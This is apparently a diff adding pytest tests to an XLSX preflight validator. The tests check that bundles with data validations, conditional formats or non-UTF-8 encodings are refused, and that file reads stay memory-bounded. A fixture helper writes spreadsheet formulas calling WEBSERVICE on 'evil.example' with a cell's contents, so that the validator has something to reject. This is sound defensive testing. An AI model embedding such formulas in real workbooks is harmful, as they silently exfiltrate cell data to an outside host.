@@ -360,3 +360,113 @@ def test_plain_etree_parser_under_openpyxl_is_refused(monkeypatch: pytest.Monkey
     with pytest.raises(DomainError) as info:
         ensure_defusedxml()
     assert info.value.code == "xlsx.no_defusedxml"
+
+
+# ---------------------------------------------------------------- bundle-only refusals (fuzz suite)
+
+
+def with_rules(path: Path, *, validation: bool = False, formatting: bool = False) -> Path:
+    """``path`` with a data validation and/or a conditional format whose formulas Excel runs."""
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    wb = openpyxl.load_workbook(path)
+    ws = wb.active
+    if validation:
+        rule = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("http://evil.example/?"&A2))')
+        rule.add("A2")
+        ws.add_data_validation(rule)
+    if formatting:
+        ws.conditional_formatting.add("A2", FormulaRule(formula=['WEBSERVICE("http://evil.example/?"&A2)<>""']))
+    out = path.with_name(f"rules-{validation}-{formatting}.xlsx")
+    wb.save(out)
+    return out
+
+
+def test_conditional_formats_and_data_validation_are_refused_in_bundles_only(good: Path) -> None:
+    """Their formulas run when Excel shows the sheet, and they sit outside every cell, so
+    no digest sees them: a bundle refuses them, an institute's own ledger keeps them."""
+    validation = with_rules(good, validation=True)
+    formatting = with_rules(good, formatting=True)
+    err = refused(validation, "xlsx.data_validation")
+    assert "xl/worksheets/sheet1.xml" in err.render("en")
+    refused(formatting, "xlsx.conditional_format")
+    for path in (validation, formatting):
+        preflight_xlsx(path, kind="ledger")
+
+
+def test_rule_elements_are_found_across_chunks_and_in_any_namespace(tmp_path: Path, good: Path,
+                                                                    ziptools: Any) -> None:
+    """The scan reads parts in chunks of 256 KiB: an element name cut in two, or behind a
+    long namespace prefix, is still found; the same word in a cell's text is not an element."""
+    parts = ziptools.parts(good)
+    sheet = parts["xl/worksheets/sheet1.xml"]
+    word = b"<t>dataValidation conditionalFormatting x:dataValidation is plain text</t>"
+    text_only = sheet.replace(b"</sheetData>", b'<row r="9"><c r="A9" t="inlineStr"><is>' + word
+                              + b"</is></c></row></sheetData>")
+    parts["xl/worksheets/sheet1.xml"] = text_only
+    preflight_xlsx(ziptools.rezip(parts, tmp_path / "text.xlsx"))
+    prefix = b"x" * 200
+    for name, element in (("cut", b"<conditionalFormatting/>"),
+                          ("prefixed", b"<" + prefix + b':dataValidations xmlns:' + prefix + b'="urn:x"/>')):
+        at = sheet.index(b"</worksheet>")
+        pad = (256 * 1024 - at - 12) % (256 * 1024)  # the name starts a few bytes before the boundary
+        body = sheet[:at] + b"<!--" + b" " * max(pad - 7, 0) + b"-->" + element + sheet[at:]
+        parts["xl/worksheets/sheet1.xml"] = body
+        code = "xlsx.conditional_format" if b"conditional" in element else "xlsx.data_validation"
+        refused(ziptools.rezip(parts, tmp_path / f"{name}.xlsx"), code)
+
+
+@pytest.mark.parametrize("encoding", ["ISO-8859-1", "latin1", "US-ASCII", "GB18030", "UTF-16"])
+def test_declared_encodings_other_than_utf8_are_refused_in_bundles(tmp_path: Path, good: Path, ziptools: Any,
+                                                                   encoding: str) -> None:
+    """docs/bundle-format.md: UTF-8 only. expat reads ISO-8859-1 and any 8-bit encoding
+    Python has a codec for, so a bundle re-encoded as Latin-1 was read; ledgers still are."""
+    parts = ziptools.parts(good)
+    body = parts["xl/worksheets/sheet1.xml"].split(b"?>", 1)[-1]
+    parts["xl/worksheets/sheet1.xml"] = f"<?xml version='1.0' encoding='{encoding}'?>".encode() + body
+    path = ziptools.rezip(parts, tmp_path / "encoded.xlsx")
+    err = refused(path, "xlsx.not_utf8")
+    assert encoding in err.render("en") and "xl/worksheets/sheet1.xml" in err.render("zh")
+    if encoding in ("ISO-8859-1", "latin1", "US-ASCII"):  # what expat reads (the body is ASCII)
+        preflight_xlsx(path, kind="ledger")
+
+
+def test_utf8_declared_in_any_spelling_is_accepted(tmp_path: Path, good: Path, ziptools: Any) -> None:
+    parts = ziptools.parts(good)
+    body = parts["xl/worksheets/sheet1.xml"].split(b"?>", 1)[-1]
+    for decl in (b'<?xml version="1.0" encoding="utf-8"?>', b"<?xml version='1.0' encoding = 'UTF-8' ?>",
+                 b'\xef\xbb\xbf<?xml version="1.0" standalone="yes"?>', b""):
+        parts["xl/worksheets/sheet1.xml"] = decl + body
+        preflight_xlsx(ziptools.rezip(parts, tmp_path / "utf8.xlsx"))
+
+
+# ---------------------------------------------------------------- reading the file
+
+
+def test_reading_a_file_allocates_about_its_size(good: Path, tmp_path: Path) -> None:
+    """read(MAX_BYTES + 1) allocated 100 MiB for every file, whatever its size."""
+    import tracemalloc
+
+    from labregistry.exchange.files import read_capped
+
+    tracemalloc.start()
+    try:
+        assert preflight.read_limited(good) == good.read_bytes()
+        assert read_capped(good, preflight.MAX_BYTES) == good.read_bytes()
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 4 * good.stat().st_size + (1 << 20), f"{peak} bytes traced for a {good.stat().st_size} byte file"
+
+
+def test_read_at_most_stops_one_byte_past_the_limit_whatever_the_size_said() -> None:
+    import io
+
+    from labregistry.exchange.files import read_at_most
+
+    data = bytes(range(256)) * 40_000  # about 10 MiB: several chunks
+    for hint in (None, 0, 10, len(data), len(data) * 2):
+        assert read_at_most(io.BytesIO(data), len(data), hint) == data  # a file that grew, or shrank
+        assert read_at_most(io.BytesIO(data), 5000, hint) == data[:5001]
+    assert read_at_most(io.BytesIO(b""), 10, 0) == b""
